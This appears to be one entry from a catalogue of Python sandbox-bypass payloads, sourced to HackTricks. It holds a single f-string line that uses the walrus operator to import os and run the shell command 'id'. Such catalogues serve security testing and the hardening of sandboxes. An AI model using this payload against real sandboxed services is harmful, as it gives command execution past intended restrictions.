# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes
# Family: fstring
# What: walrus inside an f-string replacement field calls __import__
print(f"{(m := __import__('os')).system('id')!r}")
